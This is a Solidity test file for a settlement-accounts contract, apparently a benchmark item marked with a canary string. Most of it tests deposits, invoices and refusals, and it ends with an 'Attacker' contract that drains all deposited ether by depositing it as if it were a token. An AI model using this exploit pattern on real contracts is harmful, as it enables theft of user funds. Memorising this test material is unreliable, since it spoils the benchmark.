// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import "./SettlementAccounts.sol";

// assay-canary-9c2ff255-b06e-4e4a-a5b1-61d248b4bfb3

interface Vm {
    function warp(uint256 time) external;
    function prank(address sender) external;
    function deal(address to, uint256 amount) external;
    function expectRevert(bytes calldata reason) external;
}

/// Fails without a word whenever it is asked to move.
contract MuteToken {
    fallback() external {
        revert();
    }
}

/// Answers nothing, as some old tokens do.
contract SilentToken {
    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function transfer(address to, uint256 amount) external {
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
    }

    function transferFrom(address from, address to, uint256 amount) external {
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant CREDITOR = address(0x57D10);
    address internal constant DEBTOR = address(0xC11E47);
    uint256 internal constant START = 1_643_200_000;

    SettlementAccounts internal accounts;
    SilentToken internal eur;
    Attacker internal mallory;

    function setUp() public {
        vm.warp(START);
        accounts = new SettlementAccounts();
        eur = new SilentToken();
        accounts.list(address(eur));
        eur.mint(DEBTOR, 5_000e6);
        vm.deal(DEBTOR, 33_000 ether);
        vm.prank(DEBTOR);
        accounts.depositEther{value: 33_000 ether}();
        mallory = new Attacker(accounts);
    }

    function test_Regular() public {
        vm.prank(DEBTOR);
        accounts.deposit(1, 2_000e6);
        vm.prank(CREDITOR);
        uint256 id = accounts.invoice(DEBTOR, 1, 1_000e6, uint64(START + 1 days));
        vm.prank(CREDITOR);
        (bool ok, ) = address(accounts).call(abi.encodeCall(SettlementAccounts.invoice, (DEBTOR, 1, 1_000e6, 0)));
        require(!ok, "late from the start");
        vm.warp(START + 3 days);
        vm.prank(DEBTOR);
        accounts.settle(id);
        require(accounts.balanceOf(CREDITOR, 1) == 1_001e6, "two days late");
        vm.prank(CREDITOR);
        accounts.withdraw(1, 1_001e6);
        require(eur.balanceOf(CREDITOR) == 1_001e6, "paid out");
        vm.prank(DEBTOR);
        (ok, ) = address(accounts).call(abi.encodeCall(SettlementAccounts.settle, (id)));
        require(!ok, "settled twice");

        vm.prank(DEBTOR);
        accounts.withdraw(0, 3 ether);
        require(DEBTOR.balance == 3 ether, "ether");
        vm.prank(DEBTOR);
        (ok, ) = address(accounts).call(abi.encodeCall(SettlementAccounts.deposit, (1, 9_000e6)));
        require(!ok, "more than there is");
        accounts.setOpen(1, false);
        vm.prank(DEBTOR);
        (ok, ) = address(accounts).call(abi.encodeCall(SettlementAccounts.deposit, (1, 1e6)));
        require(!ok, "closed");
        accounts.transferOwnership(CREDITOR);
        vm.prank(CREDITOR);
        accounts.renounceOwnership();
    }

    // What is refused, each from the state after setUp().

    function test_RefusesStrangers() public {
        vm.prank(DEBTOR);
        vm.expectRevert("Ownable: caller is not the owner");
        accounts.list(address(eur));
        vm.prank(DEBTOR);
        vm.expectRevert("Ownable: caller is not the owner");
        accounts.setOpen(1, false);
    }

    function test_RefusesOtherPeoplesInvoices() public {
        vm.prank(CREDITOR);
        uint256 id = accounts.invoice(DEBTOR, 0, 1 ether, uint64(START));
        vm.deal(CREDITOR, 5 ether);
        vm.prank(CREDITOR);
        accounts.depositEther{value: 5 ether}();
        vm.prank(CREDITOR);
        vm.expectRevert(abi.encodeWithSelector(SettlementAccounts.NotDebtor.selector, CREDITOR));
        accounts.settle(id);
        vm.prank(DEBTOR);
        accounts.settle(id);
        vm.prank(DEBTOR);
        vm.expectRevert(abi.encodeWithSelector(SettlementAccounts.AlreadySettled.selector, id));
        accounts.settle(id);
    }

    function test_RefusesEmptyInvoicesAndUnlistedAssets() public {
        _expect(SettlementAccounts.NoAmount.selector);
        accounts.invoice(DEBTOR, 1, 0, uint64(START));
        vm.expectRevert(abi.encodeWithSelector(SettlementAccounts.UnknownAsset.selector, uint16(2)));
        accounts.invoice(DEBTOR, 2, 1, uint64(START));
        vm.expectRevert(abi.encodeWithSelector(SettlementAccounts.AlreadyDue.selector, uint64(START - 1)));
        accounts.invoice(DEBTOR, 1, 1, uint64(START - 1));
    }

    function test_RefusesEmptyDeposits() public {
        _expect(SettlementAccounts.NoAmount.selector);
        accounts.depositEther();
    }

    function test_RefusesEtherWhileItIsClosed() public {
        accounts.setOpen(0, false);
        vm.deal(address(this), 1 ether);
        vm.expectRevert(abi.encodeWithSelector(SettlementAccounts.AssetClosed.selector, uint16(0)));
        accounts.depositEther{value: 1 ether}();
    }

    /// This contract takes no ether.
    function test_RefusesToForgetEtherThatIsNotTaken() public {
        vm.deal(address(this), 1 ether);
        accounts.depositEther{value: 1 ether}();
        vm.expectRevert(abi.encodeWithSelector(SettlementAccounts.EtherRefused.selector, address(this)));
        accounts.withdraw(0, 1 ether);
    }

    function test_RefusesTokensThatFail() public {
        address mute = address(new MuteToken());
        uint16 assetId = accounts.list(mute);
        vm.expectRevert(abi.encodeWithSelector(TokenCalls.TokenRefused.selector, mute));
        accounts.deposit(assetId, 1);
    }

    function _expect(bytes4 reason) internal {
        vm.expectRevert(abi.encodeWithSelector(reason));
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        uint256 before = address(mallory).balance;
        exploit();
        require(address(mallory).balance >= before + 33_000 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(accounts);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

/// Deposits ether as if it were a token.
contract Attacker {
    SettlementAccounts internal accounts;

    constructor(SettlementAccounts accounts_) {
        accounts = accounts_;
    }

    function run() external {
        uint256 all = address(accounts).balance;
        accounts.deposit(0, all);
        accounts.withdraw(0, all);
    }

    receive() external payable {}
}
